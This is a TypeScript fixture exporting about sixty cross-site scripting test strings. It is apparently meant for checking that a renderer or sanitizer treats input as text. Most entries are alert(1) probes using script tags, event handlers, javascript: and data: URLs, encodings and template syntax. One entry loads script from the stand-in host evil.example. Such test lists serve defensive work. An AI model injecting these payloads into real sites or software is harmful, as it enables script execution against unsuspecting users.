/** Sixty texts that would run as a program, or break out of where they stand, if anything took them for more than text. */
export const xssTexts: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script>/*', '*/alert(1)</script>', '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img src="x" onerror="alert(1)"/>', '<img/src=x/onerror=alert(1)>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img src=javascript:alert(1)>', '<img src=x onerror=&#97;lert(1)>',
  '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert&#40;1&#41;</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<body onload=alert(1)>', '<iframe src=javascript:alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', 'https://evil.example/"onmouseover="alert(1)', 'https://evil.example/\'onmouseover=\'alert(1)', 'http://javascript:alert(1)@evil.example',
  '"><script>alert(1)</script>', '\'><script>alert(1)</script>', '" onfocus="alert(1)" autofocus="', '\' onfocus=\'alert(1)\' autofocus=\'', '` onfocus=`alert(1)` autofocus=`', '--><script>alert(1)</script><!--',
  '<!--<img src="--><img src=x onerror=alert(1)//">', ']]><script>alert(1)</script>', '<style>@import "javascript:alert(1)";</style>', '<div style="background:url(javascript:alert(1))">', '<link rel=stylesheet href=javascript:alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<form action=javascript:alert(1)><button>x</button></form>', '<input onfocus=alert(1) autofocus>', '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '&lt;script&gt;alert(1)&lt;/script&gt;', '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u2028alert(1)\u2029', '[x](javascript:alert(1))', '{client}<script>alert(1)</script>',
];
